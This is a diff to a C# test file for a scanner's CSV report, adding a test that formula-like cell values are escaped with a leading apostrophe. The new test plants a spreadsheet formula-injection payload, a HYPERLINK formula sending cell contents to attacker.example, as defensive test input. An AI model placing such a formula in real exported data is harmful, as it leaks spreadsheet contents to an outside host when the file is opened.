@@ -75,7 +75,8 @@ public class CsvReportTests
             var r = records[i + 1];
             Assert.Equal(f.CheckId, r[0]);
             Assert.Equal(f.Resource, r[4]);
-            Assert.Equal(f.Evidence, r[5]);
+            // Text a spreadsheet would run as a formula gets a leading apostrophe (see the test below).
+            Assert.Equal(f.Evidence.Length > 0 && "=+-@\t\r".Contains(f.Evidence[0]) ? "'" + f.Evidence : f.Evidence, r[5]);
             Assert.Equal(f.RemediationManifest ?? string.Empty, r[7]);
             Assert.Equal(string.Join("; ", f.Frameworks), r[8]);
             Assert.Equal(f.Suppressed ? "true" : "false", r[9]);
@@ -84,6 +85,25 @@ public class CsvReportTests
 
         // The evidence with a comma, quotes and a line break is quoted with doubled quotes.
         Assert.Contains("\"payments/api[Deployment] may connect to 0.0.0.0-9.255.255.255[External], \"\"TCP 443\"\", and\nevery pod in the cluster.\"", text);
+    }
+
+    [Fact]
+    public void Text_a_spreadsheet_would_run_as_a_formula_is_written_as_text()
+    {
+        var scan = SampleScan.Create();
+        var planted = scan.Findings[0] with { Justification = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")", SuppressedBy = "@SUM(1+1)", Evidence = "-2+3" };
+        scan = new ScanResult
+        {
+            Provenance = scan.Provenance, Profile = scan.Profile, Score = scan.Score, Checks = scan.Checks,
+            Findings = new[] { planted }.Concat(scan.Findings.Skip(1)).ToList(),
+        };
+        var path = TestFiles.Write(scan, "injection.csv");
+        var records = ParseRfc4180(Encoding.UTF8.GetString(File.ReadAllBytes(path)[3..]));
+        var row = records[1];
+        Assert.Equal("'=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")", row[10]);
+        Assert.Equal("'@SUM(1+1)", row[11]);
+        Assert.Equal("'-2+3", row[5]);
+        Assert.Equal(planted.CheckId, row[0]);
     }
 
     /// <summary>A strict RFC 4180 reader: fields separated by commas, records by CRLF, quoted fields may hold anything.</summary>
